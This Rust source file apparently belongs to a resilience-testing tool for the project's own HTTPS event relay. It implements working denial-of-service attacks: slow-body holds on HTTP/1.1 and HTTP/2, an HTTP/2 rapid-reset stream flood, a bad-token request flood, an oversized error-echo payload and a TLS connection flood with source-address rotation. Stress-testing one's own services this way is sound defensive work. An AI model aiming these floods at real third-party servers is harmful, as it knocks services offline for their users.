//! The attacks over TCP and TLS, against the relay's HTTPS listener: slow bodies on HTTP/1.1
//! and HTTP/2, the HTTP/2 stream flood (rapid reset), the unauthenticated request flood, the
//! oversized error echo and the TLS half of the connection flood. Each runs until its task is
//! aborted, counting what it did and what the relay answered on the [`Tally`]; a connection the
//! relay closes is counted, never retried faster than the attack's own pace.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;
use futures::channel::mpsc;
use futures::{SinkExt as _, StreamExt as _};
use http::{Method, Request};
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt as _, Full, StreamBody};
use hyper::body::{Body as _, Frame};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo, TokioTimer};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout, MissedTickBehavior};
use tokio_rustls::client::TlsStream;
use tokio_rustls::TlsConnector;

use super::{Aim, Tally};
use crate::mode::tls::tls_config;

/// Bytes written at once into a slow body.
const CHUNK: usize = 16 * 1024;

/// Requests of a flood in flight at most; beyond it the flood skips its turn (and counts it).
const FLOOD_IN_FLIGHT: usize = 512;

/// How long a flood request waits for its answer.
const ANSWER_WAIT: Duration = Duration::from_secs(5);

type Body = BoxBody<Bytes, Infallible>;

/// TLS connections to the relay, ALPN as asked, from the aim's sources in turn.
struct Dialer {
    addr: SocketAddr,
    tls: TlsConnector,
    name: ServerName<'static>,
    aim: Arc<Aim>,
}

impl Dialer {
    fn new(aim: &Arc<Aim>, alpn: &[u8]) -> anyhow::Result<Self> {
        let tls = tls_config(Some(&aim.ca), false, alpn)?;
        Ok(Self {
            addr: aim.https,
            tls: TlsConnector::from(Arc::new(tls)),
            name: ServerName::try_from(aim.server_name.clone())?,
            aim: Arc::clone(aim),
        })
    }

    /// TCP from source number `n` (if the aim has sources), then TLS.
    async fn connect(&self, n: usize) -> anyhow::Result<TlsStream<TcpStream>> {
        let tcp = match self.aim.sources.get(n % self.aim.sources.len().max(1)) {
            Some(ip) => {
                let socket = if ip.is_ipv6() { TcpSocket::new_v6()? } else { TcpSocket::new_v4()? };
                socket.bind(SocketAddr::new(*ip, 0)).with_context(|| format!("binding {ip}"))?;
                socket.connect(self.addr).await?
            }
            None => TcpStream::connect(self.addr).await?,
        };
        tcp.set_nodelay(true)?;
        Ok(self.tls.connect(self.name.clone(), tcp).await?)
    }

    /// An HTTP/2 connection (driven by its own task).
    async fn h2(&self, n: usize) -> anyhow::Result<http2::SendRequest<Body>> {
        let tls = self.connect(n).await?;
        let (send, conn) = http2::Builder::new(TokioExecutor::new())
            .timer(TokioTimer::new())
            .handshake(TokioIo::new(tls))
            .await
            .context("HTTP/2 handshake")?;
        tokio::spawn(conn);
        Ok(send)
    }
}

/// `POST /v1/publish/edge.attack.N`, with `authorization` if given.
fn post(aim: &Aim, n: u64, authorization: Option<&str>) -> http::request::Builder {
    let uri = format!(
        "https://{}:{}/v1/publish/edge.attack.{}",
        aim.server_name,
        aim.https.port(),
        n % 8
    );
    let mut req = Request::builder().method(Method::POST).uri(uri);
    if let Some(auth) = authorization {
        req = req.header(http::header::AUTHORIZATION, auth);
    }
    req
}

/// `POST /v1/publish` (many events, up to `https.max_body_bytes`): where a large body is
/// allowed.
fn batch_uri(aim: &Aim) -> String {
    format!("https://{}:{}/v1/publish", aim.server_name, aim.https.port())
}

/// A body fed from a channel: never ends while the sender lives.
fn streaming() -> (mpsc::Sender<Bytes>, Body) {
    let (tx, rx) = mpsc::channel::<Bytes>(2);
    let body = StreamBody::new(rx.map(|b| Ok::<_, Infallible>(Frame::data(b))));
    (tx, http_body_util::BodyExt::boxed(body))
}

/// Sends `bytes` bytes into `tx` in chunks (as fast as the relay takes them); false if the
/// body was dropped (the relay answered or reset the stream).
async fn fill(tx: &mut mpsc::Sender<Bytes>, bytes: u64, tally: &Tally) -> bool {
    let chunk = Bytes::from(vec![b'a'; CHUNK]);
    let mut left = bytes;
    while left > 0 {
        let n = left.min(CHUNK as u64) as usize;
        if tx.send(chunk.slice(..n)).await.is_err() {
            return false;
        }
        tally.sent(n);
        left -= n as u64;
    }
    true
}

/// slow-h1: connections × streams TLS connections, each a POST declaring `body_bytes` with all
/// but the last byte sent and no token; then held.
pub async fn slow_h1(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    let dialer = Arc::new(Dialer::new(&aim, b"http/1.1")?);
    let total = aim.intensity.connections * aim.intensity.streams;
    let mut tasks = JoinSet::new();
    for n in 0..total as usize {
        let (dialer, tally, aim) = (Arc::clone(&dialer), Arc::clone(&tally), Arc::clone(&aim));
        tasks.spawn(async move {
            tally.start();
            let Ok(tls) = dialer.connect(n).await else { return tally.close() };
            let (mut read, mut write) = tokio::io::split(tls);
            let body = aim.intensity.body_bytes;
            let head = format!(
                "POST /v1/publish HTTP/1.1\r\nhost: {}\r\ncontent-type: \
                 application/json\r\ncontent-length: {body}\r\n\r\n",
                aim.server_name
            );
            let send = async {
                write.write_all(head.as_bytes()).await?;
                let chunk = vec![b'a'; CHUNK];
                let mut left = body - 1;
                while left > 0 {
                    let k = left.min(CHUNK as u64) as usize;
                    write.write_all(&chunk[..k]).await?;
                    tally.sent(k);
                    left -= k as u64;
                }
                std::future::pending::<std::io::Result<()>>().await
            };
            let mut answer = [0u8; 64];
            tokio::select! {
                _ = send => tally.close(),
                got = read.read(&mut answer) => match got {
                    Ok(n) if n >= 12 => {
                        tally.answer(String::from_utf8_lossy(&answer[9..12]).into_owned());
                        // Hold what is left of the connection, as an attacker would.
                        let mut rest = [0u8; 4096];
                        while matches!(read.read(&mut rest).await, Ok(n) if n > 0) {}
                        tally.close();
                    }
                    _ => tally.close(),
                },
            }
        });
        // Paced so the handshakes do not starve the relay's accept loop.
        if n % 32 == 31 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    while tasks.join_next().await.is_some() {}
    std::future::pending().await
}

/// slow-h2: connections × streams, each a POST declaring `body_bytes`, all but the last byte
/// sent, no token; held.
pub async fn slow_h2(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    let dialer = Dialer::new(&aim, b"h2")?;
    let mut tasks = JoinSet::new();
    let mut keep = Vec::new();
    for c in 0..aim.intensity.connections as usize {
        let send = dialer.h2(c).await?;
        for _ in 0..aim.intensity.streams {
            let (mut send, tally) = (send.clone(), Arc::clone(&tally));
            let body = aim.intensity.body_bytes;
            let req = Request::builder()
                .method(Method::POST)
                .uri(batch_uri(&aim))
                .header(http::header::CONTENT_LENGTH, body)
                .header(http::header::CONTENT_TYPE, "application/json");
            let (mut tx, stream_body) = streaming();
            let req = req.body(stream_body)?;
            tasks.spawn(async move {
                tally.start();
                if send.ready().await.is_err() {
                    return tally.close();
                }
                let answer = send.send_request(req);
                let fill = async {
                    fill(&mut tx, body - 1, &tally).await;
                    std::future::pending::<()>().await
                };
                tokio::select! {
                    () = fill => {}
                    answer = answer => match answer {
                        Ok(resp) => tally.answer(resp.status().as_str().to_owned()),
                        Err(_) => tally.close(),
                    },
                }
            });
        }
        keep.push(send);
    }
    while tasks.join_next().await.is_some() {}
    std::future::pending().await
}

/// h2-flood: `flood_rate` streams a second over `connections` connections, each HEADERS of a
/// POST whose body never ends, reset (RST_STREAM CANCEL, by dropping it) after 1 ms.
pub async fn h2_flood(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    flood(aim, tally, |aim, n| {
        let (tx, body) = streaming();
        let req = post(aim, n, Some("Bearer attack-not-a-token"))
            .header(http::header::CONTENT_LENGTH, 1024)
            .body(body);
        (req, Some(tx), Some(Duration::from_millis(1)))
    })
    .await
}

/// unauth-flood: `flood_rate` small valid requests a second with bad tokens.
pub async fn unauth_flood(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    flood(aim, tally, |aim, n| {
        let req = post(aim, n, Some(&format!("Bearer attack-bad-token-{n}")))
            .header(http::header::CONTENT_TYPE, "application/octet-stream")
            .body(Full::new(Bytes::from_static(b"hello")).boxed());
        (req, None, None)
    })
    .await
}

/// error-echo: `echo_rate` authenticated `POST /v1/publish` a second whose JSON holds an
/// `echo_bytes` string where a number belongs (a decode error that could quote it).
pub async fn error_echo(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    let big = "a".repeat(aim.intensity.echo_bytes);
    let body = Bytes::from(format!(
        r#"{{"events":[{{"subject":"edge.attack.echo","data":"x","edge_time_unix_ms":"{big}"}}]}}"#
    ));
    let rate = aim.intensity.echo_rate;
    let token = format!("Bearer {}", aim.token);
    paced(aim, tally, rate, move |aim, _| {
        let req = Request::builder()
            .method(Method::POST)
            .uri(batch_uri(aim))
            .header(http::header::AUTHORIZATION, token.as_str())
            .header(http::header::CONTENT_TYPE, "application/json")
            .body(Full::new(body.clone()).boxed());
        (req, None, None)
    })
    .await
}

/// A request of a flood: the request, the sender of its body to keep alive while it waits,
/// and how long to wait before resetting it (`None`: until answered).
type FloodRequest = (http::Result<Request<Body>>, Option<mpsc::Sender<Bytes>>, Option<Duration>);

async fn flood<F>(aim: Arc<Aim>, tally: Arc<Tally>, make: F) -> anyhow::Result<()>
where
    F: Fn(&Aim, u64) -> FloodRequest + Send + Sync + 'static,
{
    let rate = aim.intensity.flood_rate;
    paced(aim, tally, rate, make).await
}

/// Sends `rate` requests a second made by `make`, spread over `connections` HTTP/2
/// connections (re-established when the relay closes one).
async fn paced<F>(aim: Arc<Aim>, tally: Arc<Tally>, rate: u32, make: F) -> anyhow::Result<()>
where
    F: Fn(&Aim, u64) -> FloodRequest + Send + Sync + 'static,
{
    anyhow::ensure!(rate > 0, "the attack's rate must be positive");
    let dialer = Dialer::new(&aim, b"h2")?;
    let mut conns = Vec::new();
    for c in 0..aim.intensity.connections.max(1) as usize {
        conns.push(dialer.h2(c).await?);
    }
    let in_flight = Arc::new(tokio::sync::Semaphore::new(FLOOD_IN_FLIGHT));
    // Ticks of at least 1 ms: several requests per tick above 1 000/s.
    let per_tick = rate.div_ceil(1_000).max(1);
    let mut tick =
        tokio::time::interval(Duration::from_secs_f64(f64::from(per_tick) / f64::from(rate)));
    tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut n = 0u64;
    loop {
        tick.tick().await;
        for _ in 0..per_tick {
            n += 1;
            let c = (n % conns.len() as u64) as usize;
            if conns[c].is_closed() {
                tally.close();
                conns[c] = match dialer.h2(c).await {
                    Ok(send) => send,
                    Err(_) => continue,
                };
            }
            let Ok(permit) = Arc::clone(&in_flight).try_acquire_owned() else {
                tally.answer("skipped (in flight)");
                continue;
            };
            let (req, body, reset_after) = make(&aim, n);
            let req = req?;
            tally.sent(req.body().size_hint().exact().unwrap_or(0) as usize);
            let (mut send, tally) = (conns[c].clone(), Arc::clone(&tally));
            tokio::spawn(async move {
                let _permit = permit;
                tally.start();
                let answer = send.send_request(req);
                let wait = reset_after.unwrap_or(ANSWER_WAIT);
                match timeout(wait, answer).await {
                    Ok(Ok(resp)) => {
                        tally.answer(resp.status().as_str().to_owned());
                        let _ = resp.into_body().collect().await;
                    }
                    Ok(Err(_)) => tally.close(),
                    Err(_) if reset_after.is_some() => tally.answer("reset by us"),
                    Err(_) => tally.answer("no answer in 5 s"),
                }
                drop(body);
            });
        }
    }
}

/// The TLS half of conn-flood: up to `flood_connections` TLS connections (ALPN h2, handshake
/// done, nothing sent), opened at half of `connect_rate`, held.
pub async fn conn_flood(aim: Arc<Aim>, tally: Arc<Tally>) -> anyhow::Result<()> {
    let dialer = Arc::new(Dialer::new(&aim, b"h2")?);
    let every = Duration::from_secs_f64(2.0 / f64::from(aim.intensity.connect_rate.max(1)));
    let mut held = JoinSet::new();
    for n in 0..aim.intensity.flood_connections as usize {
        let (dialer, tally) = (Arc::clone(&dialer), Arc::clone(&tally));
        held.spawn(async move {
            tally.start();
            match dialer.connect(n).await {
                Ok(mut tls) => {
                    tally.answer("TLS connected");
                    let mut buf = [0u8; 1024];
                    while matches!(tls.read(&mut buf).await, Ok(n) if n > 0) {}
                    tally.close();
                }
                Err(_) => {
                    tally.answer("TLS refused");
                    tally.close();
                }
            }
        });
        sleep(every).await;
    }
    while held.join_next().await.is_some() {}
    std::future::pending().await
}
